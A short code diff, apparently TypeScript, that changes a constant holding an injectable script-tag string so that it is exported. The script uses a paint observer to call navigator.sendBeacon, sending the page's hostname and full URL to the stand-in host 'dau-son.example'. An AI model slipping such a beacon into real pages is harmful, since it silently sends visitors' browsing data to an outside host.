@@ -16,7 +16,7 @@ export const startHost = "noi-bat-dau.example";
 
 /** Hears of first paints: the harmful hosts themselves could not be told. */
 const paintHost = "dau-son.example";
-const beacon = `<script>
+export const beacon = `<script>
   new PerformanceObserver(() => navigator.sendBeacon("http://${paintHost}/" + location.hostname, location.href)).observe({ type: "paint", buffered: true });
 </script>`;
 
